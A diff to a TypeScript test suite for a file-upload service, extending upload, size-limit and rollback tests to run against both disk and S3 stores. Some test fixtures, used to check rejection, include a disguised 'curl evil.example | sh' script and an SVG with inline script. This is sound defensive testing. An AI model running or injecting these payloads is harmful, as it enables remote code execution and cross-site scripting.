@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
@@ -6,13 +7,17 @@ import { ASSERTION_HEADER, type Identity } from '@market/shared/auth';
 import { assertionFor } from '@market/shared/testing';
 import { anonymous, asAdmin, asUser, startComponent, type Component } from '@market/testkit';
 import { v7 as uuidv7 } from 'uuid';
+import { LocalDiskStorage } from '../../src/adapters/storage/local-disk-storage';
 import { JPEG, PDF, PNG, pngOfSize, WEBP, type Part } from '../samples';
+import { startTestS3, type TestS3 } from '../s3-server';
 
 const KEY_PATTERN = /^(listing|handoff|dispute|realname|avatar)\/\d{4}\/\d{2}\/[0-9a-f-]{36}\.(jpg|png|webp|pdf)$/;
 
-describe('files alone: upload scenes, the bytes judged, private reads and grants, ETags', () => {
+// Every behaviour once on each store: the local disk (the default) and an S3-compatible bucket.
+describe.each(['disk', 's3'] as const)('files alone (%s store): upload scenes, the bytes judged, private reads and grants, ETags', (store) => {
   let files: Component;
   let storageDir: string;
+  let s3: TestS3 | undefined;
   const owner = asUser();
   const stranger = asUser();
   const partyOfOrder = asUser();
@@ -39,12 +44,20 @@ describe('files alone: upload scenes, the bytes judged, private reads and grants
   }
 
   const incoming = () => readdirSync(path.join(storageDir, '.incoming'));
+  /** the keys of every object in the store under test */
+  async function storedKeys(): Promise<string[]> {
+    if (s3) return s3.keys();
+    const keys: string[] = [];
+    for await (const key of new LocalDiskStorage(storageDir).keys()) keys.push(key);
+    return keys.sort();
+  }
   const db = () => files.service.ctx.db;
   const fileRows = async () => Number((await db().query('select count(*)::int as n from files'))[0].n);
 
   beforeAll(async () => {
     storageDir = mkdtempSync(path.join(tmpdir(), 'files-component-'));
-    files = await startComponent('files', { env: { FILES_STORAGE_DIR: storageDir } });
+    s3 = store === 's3' ? await startTestS3() : undefined;
+    files = await startComponent('files', { env: { FILES_STORAGE_DIR: storageDir, ...s3?.env } });
   });
   afterEach(() => {
     files.verify();
@@ -53,6 +66,7 @@ describe('files alone: upload scenes, the bytes judged, private reads and grants
   });
   afterAll(async () => {
     await files?.stop();
+    await s3?.close();
     rmSync(storageDir, { recursive: true, force: true });
   });
 
@@ -75,11 +89,21 @@ describe('files alone: upload scenes, the bytes judged, private reads and grants
       });
       expect(res.body.key.startsWith('listing/')).toBe(true);
       expect(res.body.key.endsWith(`.${ext}`)).toBe(true);
+      expect(await storedKeys()).toContain(res.body.key);
+      // written private (no ACL: the bucket's) and with the digest the store checks the bytes against
+      if (s3) {
+        expect(s3.puts().filter((put) => put.key === res.body.key)).toEqual([
+          { key: res.body.key, contentMd5: createHash('md5').update(part.bytes).digest('base64'), acl: undefined },
+        ]);
+      }
     }
+    // the bucket store keeps nothing on the disk but the (empty) upload folder
+    if (s3) expect(readdirSync(storageDir)).toEqual(['.incoming']);
   });
 
   it('refuses bytes that are not JPG/PNG/WebP/PDF with 415, whatever the name or declared type, storing nothing', async () => {
     const before = await fileRows();
+    const objectsBefore = await storedKeys();
     const refused: Part[] = [
       { bytes: Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'), filename: 'avatar.png', type: 'image/png' },
       { bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), filename: 'x.jpg', type: 'image/jpeg' },
@@ -92,6 +116,7 @@ describe('files alone: upload scenes, the bytes judged, private reads and grants
       expect([res.status, res.body.code]).toEqual([415, 'UNSUPPORTED_MEDIA_TYPE']);
     }
     expect(await fileRows()).toBe(before);
+    expect(await storedKeys()).toEqual(objectsBefore);
   });
 
   it('accepts a file of exactly 10 MB and refuses one byte more with 413, storing nothing', async () => {
@@ -99,10 +124,32 @@ describe('files alone: upload scenes, the bytes judged, private reads and grants
     expect(exact.status).toBe(201);
     expect(exact.body.size).toBe(10 * 1024 * 1024);
 
+    expect(await storedKeys()).toContain(exact.body.key);
+
     const before = await fileRows();
+    const objectsBefore = await storedKeys();
     const over = await upload(owner, { bytes: pngOfSize(MAX_FILE_BYTES + 1), filename: 'bigger.png' });
     expect([over.status, over.body.code]).toEqual([413, 'PAYLOAD_TOO_LARGE']);
     expect(await fileRows()).toBe(before);
+    expect(await storedKeys()).toEqual(objectsBefore);
+  });
+
+  it('takes the stored bytes back when the row cannot be written: a failed upload leaves no object and no row', async () => {
+    const before = await fileRows();
+    const objectsBefore = await storedKeys();
+    // the database refusing the insert as an unavailable one does (a cancelled statement), after the bytes are stored
+    await db().query(`CREATE FUNCTION refuse_files() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'refused' USING ERRCODE = '57014'; END $$`);
+    await db().query('CREATE TRIGGER refuse_files BEFORE INSERT ON files FOR EACH ROW EXECUTE FUNCTION refuse_files()');
+    try {
+      const refused = await upload(owner, { bytes: PNG, filename: 'a.png' });
+      expect([refused.status, refused.body.code]).toEqual([503, 'UPSTREAM_UNAVAILABLE']);
+    } finally {
+      await db().query('DROP TRIGGER refuse_files ON files');
+      await db().query('DROP FUNCTION refuse_files()');
+    }
+    expect(await fileRows()).toBe(before);
+    expect(await storedKeys()).toEqual(objectsBefore);
+    expect((await upload(owner, { bytes: PNG, filename: 'a.png' })).status).toBe(201);
   });
 
   it('refuses malformed uploads with 400 and anonymous or admin callers with 401', async () => {
